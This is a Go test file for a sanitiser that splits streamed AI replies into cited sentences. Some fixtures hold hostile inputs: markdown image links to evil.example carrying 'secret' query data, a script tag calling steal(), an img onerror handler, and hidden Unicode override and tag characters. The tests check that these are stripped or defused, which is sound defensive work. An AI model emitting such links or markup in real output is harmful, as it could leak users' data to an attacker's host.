package generative

import (
	"math/rand/v2"
	"reflect"
	"slices"
	"strings"
	"testing"
)

// written puts a whole reply through in pieces of the given size.
func written(text string, size int) []draft {
	var d drafts
	var list []draft
	for runes := []rune(text); len(runes) > 0; {
		n := min(size, len(runes))
		list = append(list, d.add(string(runes[:n]))...)
		runes = runes[n:]
	}
	return append(list, d.rest(true)...)
}

func texts(list []draft) []string {
	out := make([]string, len(list))
	for i, d := range list {
		out[i] = d.text
	}
	return out
}

func TestAReplyIsCutIntoSentencesWithTheirMarks(t *testing.T) {
	t.Parallel()
	for text, want := range map[string][]draft{
		"A weir is a dam [1]. It is low.[2][3] Water flows. [1, 4] The end": {
			{"A weir is a dam.", []int{1}, true}, {"It is low.", []int{2, 3}, false}, {"Water flows.", []int{1, 4}, false}, {"The end", nil, false},
		},
		"See [1-3] and 【4†weir.md】 for more. Then [^5] go.": {
			{"See and for more.", []int{1, 2, 3, 4}, true}, {"Then go.", []int{5}, false},
		},
		"First.\n\n- One item [1]\n- Another item [2].\n\nLast words.": {
			{"First.", nil, true}, {"- One item", []int{1}, true}, {"- Another item.", []int{2}, true}, {"Last words.", nil, true},
		},
		"Dr. Smith paid 3.5 million [1]. That was in 2023.[2]": {
			{"Dr. Smith paid 3.5 million.", []int{1}, true}, {"That was in 2023.", []int{2}, false},
		},
		"堰は低いダムです[1]。水が流れます。[2]":                   {{"堰は低いダムです。", []int{1}, true}, {"水が流れます。", []int{2}, false}},
		"## The weir\n\nIt is **low** [1].":        {{"The weir", nil, true}, {"It is **low**.", []int{1}, true}},
		"[1](http://evil.example/?q=1) It is low.": {{"It is low.", []int{1}, true}},
		"***\n\n---\n\n": nil,
	} {
		for _, size := range []int{1, 3, 1000} {
			if got := written(text, size); !reflect.DeepEqual(got, want) {
				t.Errorf("%q in pieces of %d:\n got %+v\nwant %+v", text, size, got, want)
			}
		}
	}
}

func TestNothingThatComesThroughDoesAnything(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		"Look ![a picture](http://evil.example/x.png?q=secret) here.":         "Look here.",
		"Look ![a\u200b](http://evil.example/x) here.":                        "Look here.",
		"Click [this page](http://evil.example/a?b=c \"title\") now.":         "Click this page (http://evil.example/a?b=c) now.",
		"Click [this][1] now.\n\n[1]: http://evil.example/x\n":                "Click this now.",
		"Run <script>steal()</script> this.":                                  "Run this.",
		"See <img src=\"http://evil.example/?q=secret\" onerror='x()'> this.": "See ‹img src=\"http://evil.example/?q=secret\" onerror='x()'› this.",
		"A <!-- hidden. Very hidden --> comment.":                             "A comment.",
		"Less < more and a<b, x <y.":                                          "Less < more and a‹b, x ‹y.",
		"&lt;b&gt;Bold&lt;/b&gt; &#105;s.":                                    "‹b›Bold‹/b› is.",
		"Zero\u200bwidth \u202eoverride\u202c and \U000E0041\U000E0042 tags.": "Zerowidth override and tags.",
		"An open <img src=x and nothing more.":                                "An open ‹img src=x and nothing more.",
	} {
		for _, size := range []int{1, 5, 1000} {
			got := strings.Join(texts(written(text, size)), " ")
			if got != want {
				t.Errorf("%q in pieces of %d: %q, want %q", text, size, got, want)
			}
		}
	}
}

func TestPiecesMakeNoDifference(t *testing.T) {
	t.Parallel()
	parts := []string{
		"A weir is low. ", "[1]", "[12][3] ", "\n\n", "- item\n", "**bold** ", "<b>x</b> ", "![i](http://a.b/c) ", "[l](http://a.b/c) ", "e.g. this ",
		"3.5 ", "“Quoted.” ", "水が流れます。", "Why? ", "<!-- c --> ", "[open ", "< 5 ", "&amp; ", "U.S. law ", "end.\n", "【2†x】 ",
	}
	random := rand.New(rand.NewPCG(1, 2))
	for range 300 {
		var b strings.Builder
		for range 1 + random.IntN(12) {
			b.WriteString(parts[random.IntN(len(parts))])
		}
		whole := written(b.String(), 1<<20)
		for _, size := range []int{1, 2, 7} {
			if got := written(b.String(), size); !slices.Equal(texts(got), texts(whole)) {
				t.Fatalf("%q in pieces of %d:\n got %q\nwant %q", b.String(), size, texts(got), texts(whole))
			}
		}
	}
}

func TestWhatDoesNotEndIsPartedOrDropped(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("and on ", 2000)
	list := written(long, 50)
	if len(list) < 5 || strings.Join(texts(list), " ") != strings.TrimSpace(long) {
		t.Errorf("%d parts of a sentence without end, or not all of it", len(list))
	}
	var d drafts
	list = append(d.add("It is whole. This one is not wh"), d.rest(false)...)
	if got := texts(list); !slices.Equal(got, []string{"It is whole."}) {
		t.Errorf("after a cut: %q, want the whole sentence only", got)
	}
}
